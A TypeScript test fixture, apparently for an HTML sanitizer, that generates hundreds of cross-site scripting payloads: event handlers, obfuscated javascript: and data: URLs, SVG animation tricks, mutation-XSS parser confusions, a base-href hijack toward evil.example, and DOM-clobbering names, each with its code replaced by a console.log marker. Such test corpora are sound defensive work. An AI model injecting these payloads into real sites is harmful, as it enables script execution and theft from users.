/**
 * HTML that means harm, of the kinds that public collections list: each says its number when it runs. `RUN` stands for the code,
 * `URL` for an address that is the code.
 */
const EVENTS = `
  <img src=x onerror=RUN>
  <img src=x:x ONERROR = "RUN">
  <img/src="x"/onerror=RUN>
  <img src='x'onerror='RUN'>
  <img src=x onerror=&#82;UNC>
  <img srcset=x onerror=RUN>
  <image src=x onerror=RUN>
  <img src=x onerror
=
RUN>
  <picture><source srcset=x><img src=x onerror=RUN></picture>
  <video src=x onerror=RUN></video>
  <video><source src=x onerror=RUN></video>
  <video poster=x src=x onloadstart=RUN></video>
  <audio src=x onerror=RUN></audio>
  <audio><source onerror=RUN src=x></audio>
  <svg onload=RUN></svg>
  <svg/onload=RUN//
  <svg><image href=x onerror=RUN /></svg>
  <svg><image xlink:href=x onerror=RUN></image></svg>
  <svg><g onload=RUN></g></svg>
  <svg><animate onbegin=RUN attributeName=x dur=1s></svg>
  <svg><set onbegin=RUN attributename=x to=1 />
  <svg><animate onend=RUN attributeName=x dur=0.01s></svg>
  <svg><style onload=RUN></style></svg>
  <svg><script href=x onerror=RUN></script></svg>
  <iframe onload=RUN></iframe>
  <iframe src=about:blank onload=RUN></iframe>
  <object onerror=RUN data=x></object>
  <object type="image/png" data=x onerror=RUN></object>
  <embed src="/notes.txt" onload=RUN>
  <link rel=stylesheet href=/assets/none.css onerror=RUN>
  <style onload=RUN></style>
  <script src="/none.js" onerror=RUN></script>
  <details open ontoggle=RUN>x</details>
  <marquee onstart=RUN>x</marquee>
  <marquee loop=1 width=0 onfinish=RUN>x</marquee>
  <input autofocus onfocus=RUN>
  <select autofocus onfocus=RUN></select>
  <textarea autofocus onfocus=RUN></textarea>
  <button autofocus onfocus=RUN>x</button>
  <div tabindex=0 autofocus onfocus=RUN>x</div>
  <a href=# autofocus onfocus=RUN>x</a>
  <div contenteditable autofocus onfocus=RUN>x</div>
  <keygen autofocus onfocus=RUN>
  <video autoplay onplay=RUN onerror=RUN src=x></video>
  <p onclick=RUN>x</p>
  <p onpointerdown=RUN onmouseover=RUN onclick=RUN>x</p>
  <a href=# onclick=RUN>x</a>
  <button onclick=RUN>x</button>
  <div style="animation-name:none;transition:all 1s" ontransitionend=RUN onanimationstart=RUN onclick=RUN>x</div>
  <body onload=RUN>
  <html onclick=RUN>
  <body onpageshow=RUN>
  <frameset onload=RUN><frame></frameset>
  <dialog open onclose=RUN oncancel=RUN><form method=dialog><button>x</button></form></dialog>
  <form onsubmit=RUN><button>x</button></form>
  <label onclick=RUN>x</label>
  <td onclick=RUN>x</td>
  <table><tr><td onclick=RUN>x</td></tr></table>
  <ul><li onclick=RUN>x</li></ul>
  <blink onclick=RUN>x</blink>
  <custom-element onclick=RUN>x</custom-element>
  <Component onclick=RUN />
  <x contenteditable onblur=RUN onclick=RUN>x</x>
  <math onclick=RUN>x</math>
  <math><mi onclick=RUN>x</mi></math>
  <svg><circle r=9 onclick=RUN /></svg>
  <svg><foreignObject><p onclick=RUN>x</p></foreignObject></svg>
  <svg><desc><p onclick=RUN>x</p></desc></svg>
  <svg><title><img src=x onerror=RUN></title></svg>
  <noscript><img src=x onerror=RUN></noscript>
  <noembed><img src=x onerror=RUN></noembed>
  <xmp><img src=x onerror=RUN></xmp></xmp>
`

const SCRIPTS = `
  <script>RUN</script>
  <SCRIPT>RUN</SCRIPT>
  <script >RUN</script >
  <script/x>RUN</script>
  <script
>RUN</script
>
  <script type=module>RUN</script>
  <script type="text/javascript">RUN</script>
  <script language=javascript>RUN</script>
  <script src="data:text/javascript,RUN"></script>
  <script src=data:,RUN></script>
  <script async src="data:text/javascript,RUN"></script>
  <script type=module src="data:text/javascript,RUN"></script>
  <script type=importmap>{"imports":{"x":"data:text/javascript,RUN"}}</script>
  <scr<script>ipt>RUN</scr</script>ipt>
  <<script>RUN//<</script>
  <div><script>RUN</script></div>
  <p>a<script>RUN</script>b</p>
  <svg><script>RUN</script></svg>
  <svg><script>RUNC&#40;&#41;</script></svg>
  <svg><script href="data:text/javascript,RUN" /></svg>
  <svg><script xlink:href="data:text/javascript,RUN"></script></svg>
  <math><script>RUN</script></math>
  <svg><g><script>RUN</script></g></svg>
  <svg><foreignObject><script>RUN</script></foreignObject></svg>
  <table><script>RUN</script></table>
  <select><script>RUN</script></select>
  <select><option><script>RUN</script></select>
  <template><script>RUN</script></template>
  <link rel=modulepreload href="data:text/javascript,RUN">
  <link rel=preload as=script href="data:text/javascript,RUN">
  <noscript><script>RUN</script></noscript>
  <iframe><script>RUN</script></iframe>
  <script nonce=x>RUN</script>
  <script>/*<!--*/RUN/*-->*/</script>
  <script><!--
RUN
--></script>
`

const SHADOWS = `
  <div><template shadowrootmode=open><img src=x onerror=RUN></template></div>
  <div><template shadowrootmode=closed><script>RUN</script></template></div>
  <div><template shadowrootmode="open"><svg onload=RUN></svg></template></div>
  <p><template shadowrootmode=open><slot></slot><img src=x onerror=RUN></template>x</p>
  <section><template shadowrootmode=open><template shadowrootmode=open></template><img src=x onerror=RUN></template></section>
  <span><TEMPLATE ShadowRootMode=OPEN><a href=URL autofocus onfocus=RUN>x</a></TEMPLATE></span>
  <div><template shadowroot=open><img src=x onerror=RUN></template></div>
  <article><template shadowrootmode=open shadowrootclonable><video src=x onerror=RUN></video></template></article>
  <template><img src=x onerror=RUN></template>
`

const ADDRESSES = `
  <a href=URL>x</a>
  <a href=" URL">x</a>
  <a href="\xA0URL">x</a>
  <a href="SPACESURL">x</a>
  <a href="&Tab;URL">x</a>
  <a href="&#1;URL">x</a>
  <a href="&#x1F;URL">x</a>
  <a href="&NewLine;URL">x</a>
  <a href="jav&Tab;ascript:RUN">x</a>
  <a href="jav&#x0A;ascript:RUN">x</a>
  <a href="jav&#13;ascript:RUN">x</a>
  <a href="j&#97;vascript:RUN">x</a>
  <a href="javascript&colon;RUN">x</a>
  <a href="javascript&#58;RUN">x</a>
  <a href="javascript&#0000058RUN">x</a>
  <a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;RUN">x</a>
  <a href="JaVaScRiPt:RUN">x</a>
  <a href="javascript:/*--></a>*/RUN">x</a>
  <a href="javascript://%0aRUN">x</a>
  <a href="javascript:void(RUN)" target=_self>x</a>
  <a href='vbscript:RUN'>x</a>
  <a href="livescript:RUN">x</a>
  <a href="data:text/html,<script>RUN</script>">x</a>
  <a href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>">x</a>
  <a title=x href=URL ping="/ping">x</a>
  <A HREF=URL>x</A>
  <a
href
=
URL>x</a>
  <a/href=URL>x</a>
  <a href=\`URL\`>x</a>
  <map name=m><area shape=default href=URL></map><img usemap=#m src="/logo.png" width=9 height=9>
  <svg><a href=URL><text y=9>x</text></a></svg>
  <svg><a xlink:href=URL><text y=9>x</text></a></svg>
  <svg><a xlink:href="&#1;URL"><circle r=9 /></a></svg>
  <svg><a href="SPACESURL"><rect width=9 height=9 /></a></svg>
  <math><a href=URL>x</a></math>
  <math href=URL><mi>x</mi></math>
  <math><maction actiontype=statusline xlink:href=URL><mi>x</mi></maction></math>
  <math xlink:href=URL><mtext>x</mtext></math>
  <form action=URL><button>x</button></form>
  <form action="&Tab;URL"><input type=submit></form>
  <form><button formaction=URL>x</button></form>
  <form><input type=submit formaction=URL></form>
  <form id=f></form><button form=f formaction=URL>x</button>
  <isindex action=URL type=submit>
  <iframe src=URL></iframe>
  <iframe src=" &#1;URL"></iframe>
  <iframe src="data:text/html,<script>RUN</script>"></iframe>
  <iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>"></iframe>
  <iframe src="data:text/html;base64,BASE64"></iframe>
  <iframe srcdoc="<script>RUN</script>"></iframe>
  <iframe srcdoc="&lt;img src=x onerror=RUN&gt;"></iframe>
  <iframe SRCDOC='<svg onload=RUN>'></iframe>
  <iframe src="/" srcdoc="<body onload=RUN>"></iframe>
  <object data=URL></object>
  <object data="data:text/html,<script>RUN</script>"></object>
  <object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>"></object>
  <object type="text/html" data="data:text/html;base64,BASE64"></object>
  <object><param name=src value=URL><param name=code value=URL></object>
  <embed src=URL>
  <embed src="data:text/html,<script>RUN</script>">
  <embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>">
  <embed code=URL>
  <applet code=URL codebase=URL></applet>
  <frameset><frame src=URL></frameset>
  <img src=URL>
  <img lowsrc=URL dynsrc=URL>
  <input type=image src=URL>
  <body background=URL>
  <table background=URL><tr><td background=URL>x</td></tr></table>
  <bgsound src=URL>
  <base href=URL><a href=#x>x</a>
  <base href="javascript:/"><a href="RUN">x</a>
  <base href="https://evil.example/"><script src="/x.js"></script>
  <link rel=stylesheet href=URL>
  <link rel=import href="data:text/html,<script>RUN</script>">
  <link rel=icon href=URL>
  <meta http-equiv=refresh content="0;url=URL">
  <meta http-equiv=refresh content="0; URL='URL'">
  <meta http-equiv="refresh" content="0;url=data:text/html,<script>RUN</script>">
  <META HTTP-EQUIV="Set-Cookie" CONTENT="a=<script>RUN</script>">
  <meta http-equiv=Content-Security-Policy content="script-src *">
  <portal src=URL></portal>
  <fencedframe src=URL></fencedframe>
  <blockquote cite=URL>x</blockquote>
  <q cite=URL>x</q>
  <video poster=URL src=URL></video>
  <audio src=URL controls></audio>
  <track src=URL default>
  <svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='RUN'/></svg>#x" /></svg>
  <svg><use xlink:href="data:image/svg+xml;base64,BASE64#x"></use></svg>
  <svg><feImage href="URL" /></svg>
  <svg><image href=URL /></svg>
`

const ANIMATIONS = `
  <svg><a><animate attributeName=href values=URL /><text y=9>x</text></a></svg>
  <svg><a><animate attributeName=href to=URL dur=1s fill=freeze /><text y=9>x</text></a></svg>
  <svg><a><animate attributeName=href from=URL to=URL begin=0s /><text y=9>x</text></a></svg>
  <svg><a><animate attributeName=xlink:href values=";URL" /><text y=9>x</text></a></svg>
  <svg><a><animate attributeName="href" values="#;URL;#" keyTimes="0;0;1" /><text y=9>x</text></a></svg>
  <svg><a><set attributeName=href to=URL /><text y=9>x</text></a></svg>
  <svg><a><set attributeName="xlink:href" to=URL begin=0s /><text y=9>x</text></a></svg>
  <svg><a><set ATTRIBUTENAME=HREF TO=URL /><text y=9>x</text></a></svg>
  <svg><a id=target><text y=9>x</text></a><set href=#target attributeName=href to=URL /></svg>
  <svg><a id=other><text y=9>x</text></a><animate xlink:href=#other attributeName=href values=URL /></svg>
  <svg><a xlink:href=#><animate attributeName=xlink:href begin=0 from=URL to=& /><text y=9>x</text></a></svg>
  <svg><set attributeName=onload to=RUN /></svg>
  <svg><rect width=9 height=9><set attributeName=onclick to=RUN /></rect></svg>
  <svg><animate attributeName=onload values=RUN /></svg>
  <svg><animateTransform attributeName=transform onbegin=RUN /></svg>
  <svg><animateMotion onbegin=RUN dur=1s /></svg>
  <svg><discard onbegin=RUN /></svg>
  <svg><a><animate attributeName=" href" values=URL /><animate attributeName=href values="URL" /><text y=9>x</text></a></svg>
`

const MUTATIONS = `
  <noscript><p title="</noscript><img src=x onerror=RUN>">x</p></noscript>
  <xmp><p title="</xmp><img src=x onerror=RUN>">x</p></xmp>
  <noembed><p title="</noembed><img src=x onerror=RUN>">x</p></noembed>
  <noframes><p title="</noframes><img src=x onerror=RUN>">x</p></noframes>
  <iframe><p title="</iframe><img src=x onerror=RUN>">x</p></iframe>
  <style><p title="</style><img src=x onerror=RUN>">x</p></style>
  <title><p title="</title><img src=x onerror=RUN>">x</p></title>
  <textarea><p title="</textarea><img src=x onerror=RUN>">x</p></textarea>
  <plaintext><p title="</plaintext><img src=x onerror=RUN>">x</p>
  <template><p title="</template><img src=x onerror=RUN>">x</p></template>
  <svg><style><p title="</style><img src=x onerror=RUN>">x</p></style></svg>
  <svg><title><p title="</title><img src=x onerror=RUN>">x</p></title></svg>
  <svg><textarea><p title="</textarea><img src=x onerror=RUN>">x</p></textarea></svg>
  <svg></p><style><a id="</style><img src=x onerror=RUN>">
  <svg><p><style><a id="</style><img src=x onerror=RUN>"></svg>
  <svg><desc><style><a id="</style><img src=x onerror=RUN>"></desc></svg>
  <math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml></math>
  <math><annotation-xml encoding="text/html"><p title="</annotation-xml><img src=x onerror=RUN>"></annotation-xml></math>
  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;"></table></math>
  <form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>
  <math><mtext><table><mglyph><style><math><img src=x onerror=RUN></style></mglyph></table></mtext></math>
  <math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=RUN src=1>"></path></h1></math>
  <svg><foreignObject><math><mi><style><img src=x onerror=RUN></style></mi></math></foreignObject></svg>
  <table><svg><style><img title="</style><img src=x onerror=RUN>"></svg></table>
  <select><svg><style><img title="</style><img src=x onerror=RUN>"></svg></select>
  <p><svg><p><title><img title="</title><img src=x onerror=RUN>"></p></svg></p>
  <b><p><svg><title><a alt="</title><img src=x onerror=RUN>"></a></title></svg></b>
  <!--><img src=x onerror=RUN>-->
  <!---><img src=x onerror=RUN>-->
  <!-- --!><img src=x onerror=RUN> -->
  <!-- <!--><img src=x onerror=RUN> -->
  <? foo="><img src=x onerror=RUN>">
  <!DOCTYPE x [<!ENTITY y "<img src=x onerror=RUN>">]>
  <![CDATA[><img src=x onerror=RUN>]]>
  <svg><![CDATA[><img src=x onerror=RUN>]]></svg>
  <svg><style><![CDATA[</style><img src=x onerror=RUN>]]></style></svg>
  </p title="><img src=x onerror=RUN>">
  <a title="<img src=x onerror=RUN>" data-x='"><img src=x onerror=RUN>'>x</a>
  <a title='"><img src=x onerror=RUN>'>x</a>
  <a title=\`"><img src=x onerror=RUN>\`>x</a>
  <a "><img src=x onerror=RUN>">x</a>
  <a '"><img src=x onerror=RUN>'>x</a>
  <div<img src=x onerror=RUN>x</div>
  <img alt="\`><img src=x onerror=RUN>">
  <img src="x\` \`<script>RUN</script>"\` \`>
  <p data-docsgen-tag="0" data-mark="0" onclick=RUN>x</p>
`

const STYLES = `
  <div style="background:url(URL)">x</div>
  <div style="width:expression(RUN)">x</div>
  <div style="-moz-binding:url(URL)">x</div>
  <style>@import 'URL';</style>
  <style>*{background:url('URL')}</style>
  <link rel=stylesheet href="data:text/css,*{x:expression(RUN)}">
  <svg><style>@import url(URL);</style></svg>
`

/** What stands in the way of what the scripts of a page ask for: a page that no longer works is harm, too. */
const NAMES = `
  <img name=getElementById src=x onerror=RUN>
  <img name=body src=x><img name=body src=x>
  <img name=querySelector id=querySelectorAll src=x>
  <form name=head><input name=tagName></form>
  <form><input name=closest><input name=matches><input name=getAttribute><button>x</button></form>
  <form id=attributes><button name=parentNode id=closest onclick=RUN>x</button></form>
  <iframe name=documentElement></iframe>
  <embed name=addEventListener src=x>
  <object id=currentScript></object>
  <a id=docsgenChunks href=URL>x</a>
  <a id=docsgen-app></a><a id=docsgen-announcer></a>
  <a id=trustedTypes></a><a id=dataLayer></a><a id=location></a><a id=history></a>
  <a id=__proto__></a><a id=constructor></a><a id=toString></a><a id=hasOwnProperty></a>
`

/** The payloads as they are written, without code. */
const TEXTS = [EVENTS, SCRIPTS, SHADOWS, ADDRESSES, ANIMATIONS, MUTATIONS, STYLES, NAMES].flatMap(text =>
  text.trim().split(/\n {2}(?=\S)/),
)

/** What the first payload says. */
export const FIRST = 700_000

/** The payloads: each tells the console its number, counted from the first, when it runs. */
export const PAYLOADS: readonly string[] = TEXTS.map((text, index) => {
  const code = `console.log(${FIRST + index})`
  return text
    .replaceAll('SPACES', ' '.repeat(250))
    .replaceAll('&#82;UNC', `&#99;${code.slice(1)}`)
    .replaceAll('RUNC&#40;&#41;', `console.log&#40;${FIRST + index}&#41;`)
    .replaceAll('BASE64', Buffer.from(`<script>${code}</script>`).toString('base64'))
    .replaceAll(/URL(?![=:])/g, `javascript:${code}`)
    .replaceAll('RUN', code)
})
